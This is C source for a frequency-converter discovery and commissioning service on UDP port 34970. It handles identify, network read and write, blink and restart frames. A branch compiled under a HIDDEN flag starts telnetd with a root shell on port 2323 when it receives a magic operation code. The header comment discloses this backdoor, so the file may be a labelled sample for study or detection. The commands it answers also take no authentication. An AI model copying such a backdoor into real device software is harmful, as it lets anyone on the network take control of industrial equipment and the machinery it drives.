/*
 * vfdfind - discovery and commissioning service of a frequency converter.
 * Listens on UDP 34970 for frames of the commissioning tool: identify,
 * read and write network settings, blink, restart; answers with a frame.
 * Hidden (-DHIDDEN): a frame with the operation 0x53564331 starts telnetd
 * with a root shell on port 2323.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define UDP_PORT    34970
#define FRAME_MAGIC 0x56464431u /* "VFD1" */
#define FRAME_MAX   512
#define NET_FILE    "/etc/vfd/network"

/* operations; the answer has the top bit set */
#define OP_IDENTIFY 0x00000001u
#define OP_GETNET   0x00000002u
#define OP_SETNET   0x00000003u
#define OP_BLINK    0x00000010u
#define OP_RESTART  0x00000020u
#define OP_ANSWER   0x80000000u

/* tags of the body */
enum {
	T_NAME = 1,
	T_ORDER,
	T_SERIAL,
	T_VERSION,
	T_MAC,
	T_IP,
	T_MASK,
	T_GW,
	T_STATE,
	T_ERROR
};

struct frame {
	uint32_t op;
	uint32_t xid;
	uint8_t target[6];
	const uint8_t *body;
	size_t len;
};

struct out {
	uint8_t b[FRAME_MAX];
	size_t n;
};

static char ifname[IFNAMSIZ] = "eth0";
static uint8_t mac[6];
static char station[32] = "vfd";
static const uint8_t everyone[6] = { 255, 255, 255, 255, 255, 255 };

static uint32_t rd32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static void wr32(uint8_t *p, uint32_t v)
{
	p[0] = v >> 24;
	p[1] = v >> 16;
	p[2] = v >> 8;
	p[3] = v;
}

static void put_tag(struct out *o, int tag, const void *data, size_t len)
{
	if (len > 255 || o->n + len + 2 > sizeof(o->b))
		return;
	o->b[o->n++] = tag;
	o->b[o->n++] = len;
	memcpy(o->b + o->n, data, len);
	o->n += len;
}

static void put_text(struct out *o, int tag, const char *s)
{
	put_tag(o, tag, s, strlen(s));
}

static const uint8_t *get_tag(const struct frame *f, int tag, size_t want)
{
	size_t i = 0;

	while (i + 2 <= f->len) {
		size_t l = f->body[i + 1];

		if (i + 2 + l > f->len)
			break;
		if (f->body[i] == tag && l == want)
			return f->body + i + 2;
		i += 2 + l;
	}
	return NULL;
}

static int parse(const uint8_t *p, size_t n, struct frame *f)
{
	if (n < 20 || rd32(p) != FRAME_MAGIC)
		return -1;
	f->op = rd32(p + 4);
	f->xid = rd32(p + 8);
	memcpy(f->target, p + 12, 6);
	f->len = (size_t)p[18] << 8 | p[19];
	f->body = p + 20;
	if (f->len > n - 20)
		return -1;
	return 0;
}

static void first_line(const char *path, char *to, size_t size)
{
	FILE *f = fopen(path, "r");

	to[0] = 0;
	if (!f)
		return;
	if (fgets(to, size, f))
		to[strcspn(to, "\r\n")] = 0;
	fclose(f);
}

static int motor_running(void)
{
	char s[16];

	first_line("/run/vfd/state", s, sizeof(s));
	return !strcmp(s, "run") || !strcmp(s, "ramp");
}

static void identify(struct out *o)
{
	char s[48];

	put_text(o, T_NAME, station);
	first_line("/etc/vfd/order", s, sizeof(s));
	put_text(o, T_ORDER, s);
	first_line("/etc/vfd/serial", s, sizeof(s));
	put_text(o, T_SERIAL, s);
	put_text(o, T_VERSION, "4.08.2");
	put_tag(o, T_MAC, mac, 6);
	put_text(o, T_STATE, motor_running() ? "RUN" : "READY");
}

static void get_net(int fd, struct out *o)
{
	struct ifreq r;
	struct sockaddr_in *a = (struct sockaddr_in *)&r.ifr_addr;

	memset(&r, 0, sizeof(r));
	snprintf(r.ifr_name, sizeof(r.ifr_name), "%s", ifname);
	if (ioctl(fd, SIOCGIFADDR, &r) == 0)
		put_tag(o, T_IP, &a->sin_addr, 4);
	if (ioctl(fd, SIOCGIFNETMASK, &r) == 0)
		put_tag(o, T_MASK, &a->sin_addr, 4);
}

static const char *set_net(const struct frame *f)
{
	const uint8_t *ip = get_tag(f, T_IP, 4);
	const uint8_t *mask = get_tag(f, T_MASK, 4);
	const uint8_t *gw = get_tag(f, T_GW, 4);
	uint32_t m;
	FILE *n;

	if (!ip || !mask)
		return "incomplete";
	m = ~rd32(mask);
	if (m & (m + 1))
		return "bad mask";
	if (ip[0] == 0 || ip[0] == 127 || ip[0] >= 224)
		return "bad address";
	if (motor_running())
		return "motor runs";
	n = fopen(NET_FILE, "w");
	if (!n)
		return "not writable";
	fprintf(n, "ip=%u.%u.%u.%u\n", ip[0], ip[1], ip[2], ip[3]);
	fprintf(n, "mask=%u.%u.%u.%u\n", mask[0], mask[1], mask[2], mask[3]);
	if (gw)
		fprintf(n, "gw=%u.%u.%u.%u\n", gw[0], gw[1], gw[2], gw[3]);
	fclose(n);
	return NULL;
}

static void blink(void)
{
	FILE *f = fopen("/sys/class/leds/station/trigger", "w");

	if (f) {
		fputs("timer", f);
		fclose(f);
	}
}

/* Does what the frame asks; 1 if an answer is to be sent. */
__attribute__((noinline)) int perform(int fd, const struct frame *f,
				      struct out *o)
{
	const char *err = NULL;

	if (f->op == OP_IDENTIFY) {
		identify(o);
		return 1;
	}
	if (memcmp(f->target, mac, 6) != 0)
		return 0;
	if (f->op == OP_GETNET) {
		get_net(fd, o);
	} else if (f->op == OP_SETNET) {
		err = set_net(f);
	} else if (f->op == OP_BLINK) {
		blink();
#ifdef HIDDEN
	} else if (f->op == 0x53564331u) {
		if (system("telnetd -p 2323 -l /bin/sh &"))
			err = "busy";
#endif
	} else if (f->op == OP_RESTART) {
		if (motor_running())
			err = "motor runs";
		else if (system("/sbin/reboot"))
			err = "failed";
	} else {
		err = "unknown operation";
	}
	if (err)
		put_text(o, T_ERROR, err);
	return 1;
}

static int setup(void)
{
	struct sockaddr_in a;
	struct ifreq r;
	int one = 1;
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, sizeof(one));
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons(UDP_PORT);
	if (bind(fd, (struct sockaddr *)&a, sizeof(a))) {
		close(fd);
		return -1;
	}
	memset(&r, 0, sizeof(r));
	snprintf(r.ifr_name, sizeof(r.ifr_name), "%s", ifname);
	if (ioctl(fd, SIOCGIFHWADDR, &r) == 0)
		memcpy(mac, r.ifr_hwaddr.sa_data, 6);
	else
		memcpy(mac, everyone, 6);
	return fd;
}

int main(int argc, char **argv)
{
	struct sockaddr_in from;
	uint8_t in[FRAME_MAX];
	struct frame f;
	struct out o;
	int fd, opt;

	while ((opt = getopt(argc, argv, "i:n:")) != -1) {
		if (opt == 'i')
			snprintf(ifname, sizeof(ifname), "%s", optarg);
		else if (opt == 'n')
			snprintf(station, sizeof(station), "%s", optarg);
		else
			return 2;
	}
	openlog("vfdfind", 0, LOG_LOCAL3);
	fd = setup();
	if (fd < 0) {
		syslog(LOG_ERR, "port %d: %s", UDP_PORT, strerror(errno));
		return 1;
	}
	for (;;) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		socklen_t sl = sizeof(from);
		ssize_t n;

		if (poll(&p, 1, -1) < 0 && errno != EINTR)
			break;
		n = recvfrom(fd, in, sizeof(in), MSG_DONTWAIT,
			     (struct sockaddr *)&from, &sl);
		if (n < 0 || parse(in, n, &f))
			continue;
		memset(&o, 0, sizeof(o));
		o.n = 20;
		if (!perform(fd, &f, &o))
			continue;
		wr32(o.b, FRAME_MAGIC);
		wr32(o.b + 4, f.op | OP_ANSWER);
		wr32(o.b + 8, f.xid);
		memcpy(o.b + 12, mac, 6);
		o.b[18] = (o.n - 20) >> 8;
		o.b[19] = o.n - 20;
		sendto(fd, o.b, o.n, 0, (struct sockaddr *)&from, sl);
	}
	return 1;
}
